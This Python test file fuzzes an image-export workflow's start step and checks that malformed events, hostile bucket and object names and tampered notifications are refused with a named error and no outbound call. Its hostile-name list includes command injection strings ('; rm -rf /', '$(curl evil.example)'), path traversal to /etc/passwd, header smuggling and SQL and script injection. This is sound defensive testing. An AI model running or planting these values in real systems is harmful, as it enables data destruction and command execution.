"""Malformed and adversarial events at the start step: always a named validation error, never a call."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import requests
import responses
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ims_export import runtime
from ims_export.errors import InvalidRequestError
from ims_export.smn.delivery import handle_smn_message
from ims_export.smn.verify import SmnVerifier
from ims_export.steps.start import start
from ims_export.steps.states import ReceivedInput, StartInput
from localdev.lambda_handlers import FakeLambdaContext, load_handler
from tests.notifications.smn_signing import CERT_URL, TOPIC_URN
from tests.reliability.conftest import CountingTokens
from tests.workflow.conftest import FUNCTIONS
from tests.workflow.fakes import IMAGE_ID, FakeIms, make_clients, make_image, make_settings

EXAMPLES = settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

# Traversal, injection and smuggling attempts for bucket and object names.
HOSTILE_NAMES = [
    "../../etc/passwd",
    "exports/../../secret",
    "exports/./x.qcow2",
    "exports//x.qcow2",
    "/absolute.qcow2",
    "x.qcow2; rm -rf /",
    "x.qcow2' OR '1'='1",
    "$(curl evil.example)",
    "`id`.qcow2",
    "x.qcow2\x00.txt",
    "x\r\nHost: evil.example",
    "%2e%2e/%2e%2e/x",
    "x.qcow2?acl",
    "x.qcow2#frag",
    "exports/x y.qcow2",
    "\uff45\uff58port.qcow2",  # full-width letters
    "<script>alert(1)</script>",
    "{image_id}",
    "a" * 129,
    "a/" * 200 + "x",
]
HOSTILE_BUCKETS = [
    "Bucket",
    "b",
    "evil.example/x",
    "127.0.0.1",
    "bucket..x",
    "bucket-.x",
    "-bucket",
    "bucket;drop",
    "bucket name",
    "http://evil.example",
    "a" * 64,
]
json_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20,
)
not_an_image_id = st.one_of(
    st.text(max_size=60).filter(lambda text: text != IMAGE_ID), json_values, st.just("x" * 100_000)
)
hostile_bucket_urls = st.one_of(
    st.builds(lambda name: f"ims-export-demo:{name}", st.sampled_from(HOSTILE_NAMES)),
    st.builds(lambda bucket: f"{bucket}:exports/x.qcow2", st.sampled_from(HOSTILE_BUCKETS)),
    st.sampled_from(["no-separator", ":", "ims-export-demo:", "x" * 1_000_000]),
    json_values.filter(lambda value: not isinstance(value, str) and value is not None),
)


def _event_bridge(source: str, detail: Any, detail_type: Any = "Image Created") -> dict[str, Any]:
    return {"version": "0", "id": "1", "detail-type": detail_type, "source": source, "detail": detail}


malformed_events = st.one_of(
    json_values,  # anything at all, nested garbage included
    st.text(max_size=200),  # non-JSON (and JSON-looking) strings
    st.builds(lambda text: "{" + text, st.text(max_size=50)),
    st.builds(lambda image_id: {"image_id": image_id}, not_an_image_id),
    st.builds(lambda url: {"image_id": IMAGE_ID, "bucket_url": url}, hostile_bucket_urls),
    st.builds(
        lambda fmt: {"image_id": IMAGE_ID, "bucket_url": "ims-export-demo:x.qcow2", "file_format": fmt},
        json_values.filter(lambda value: value not in ("qcow2", "vhd", "zvhd", "vmdk", None)),
    ),
    st.builds(
        lambda extra: {"image_id": IMAGE_ID, **extra},
        st.dictionaries(
            st.text(min_size=1, max_size=12).filter(
                lambda key: key not in {"image_id", "bucket_url", "file_format", "is_quick_export", "trigger"}
            ),
            json_values,
            min_size=1,
            max_size=3,
        ),
    ),
    st.builds(
        _event_bridge,
        st.text(max_size=30),
        st.one_of(json_values, st.builds(lambda image_id: {"image_id": image_id}, not_an_image_id)),
    ),
    st.builds(lambda detail_type: _event_bridge("aws.events", {}, detail_type), json_values),
    st.builds(
        lambda trace: _event_bridge("ims-export.cts", trace),
        st.fixed_dictionaries(
            {"trace_name": st.sampled_from(["createImage", "deleteImage", "updateImage"])},
            optional={
                "resource_id": not_an_image_id,
                "trace_rating": st.sampled_from(["warning", "incident"]),
            },
        ),
    ),
    st.builds(
        lambda garbage: {"phase": "waiting_for_image", **garbage},
        st.dictionaries(st.text(max_size=8), json_values),
    ),
    st.builds(lambda garbage: {"resume": garbage}, json_values),
    # Shaped like SMN but unsigned, tampered or broken: refused before any fetch or call.
    st.builds(
        lambda message_type, message, signature: {
            "type": message_type,
            "topic_urn": TOPIC_URN,
            "message_id": "m-1",
            "message": message,
            "timestamp": "2026-11-27T12:00:00Z",
            "signature_version": "v1",
            "signing_cert_url": CERT_URL,
            "signature": signature,
        },
        st.sampled_from(["Notification", "SubscriptionConfirmation", "UnsubscribeConfirmation"]),
        st.one_of(
            st.text(max_size=50), st.just(json.dumps({"trace_name": "createImage", "resource_id": IMAGE_ID}))
        ),
        st.sampled_from(["", "not base64!", "QUJD"]),
    ),
)


class RecordingCertificates:
    """A certificate fetcher that must never be asked: refusals come before any download."""

    def __init__(self) -> None:
        self.urls: list[str] = []

    def fetch(self, url: str) -> Any:
        self.urls.append(url)
        raise AssertionError("no certificate should be fetched for a refused message")


def _fresh_ims() -> FakeIms:
    ims = FakeIms(tokens=CountingTokens())
    ims.add_image(make_image())
    return ims


def _assert_untouched(ims: FakeIms) -> None:
    assert ims.calls == []
    assert isinstance(ims.tokens, CountingTokens)
    assert ims.tokens.uses == 0


@EXAMPLES
@given(event=malformed_events)
def test_workflow_start_refuses_with_a_named_error_and_no_call(event: Any) -> None:
    ims = _fresh_ims()
    certificates = RecordingCertificates()
    verifier = SmnVerifier(certificates, allowed_topic_urns={TOPIC_URN})
    session = _no_network_session()

    def smn(body: Any) -> Any:
        return handle_smn_message(body, verifier=verifier, session=session)

    try:
        start(StartInput(state=ReceivedInput(input=event)), make_clients(ims), now=_now(), smn=smn)
    except InvalidRequestError:
        pass
    else:
        raise AssertionError(f"accepted: {json.dumps(event)[:200]}")
    _assert_untouched(ims)
    assert certificates.urls == []


@EXAMPLES
@given(event=st.one_of(malformed_events, json_values.map(lambda value: {"state": value})))
def test_the_real_handler_refuses_with_a_named_error_and_no_call(event: Any) -> None:
    handler = load_handler(FUNCTIONS["StartExportFunction"])
    ims = _fresh_ims()
    payload = event if isinstance(event, dict) and "state" in event else {"event": event}
    context = FakeLambdaContext(function_name="StartExportFunction", invoked_function_arn="arn:local")
    clients = make_clients(ims, make_settings(smn_allowed_topic_urns=[TOPIC_URN]))
    with runtime.use_clients(clients), responses.RequestsMock(assert_all_requests_are_fired=False) as network:
        try:
            handler(payload, context)
        except InvalidRequestError:
            pass
        else:
            raise AssertionError(f"accepted: {json.dumps(payload)[:200]}")
        assert len(network.calls) == 0
    _assert_untouched(ims)


def _no_network_session() -> requests.Session:
    class NoNetwork(requests.Session):
        def request(self, *args: Any, **kwargs: Any) -> Any:
            raise AssertionError("no HTTP call may be made for a refused message")

    return NoNetwork()


def _now() -> datetime:
    return datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
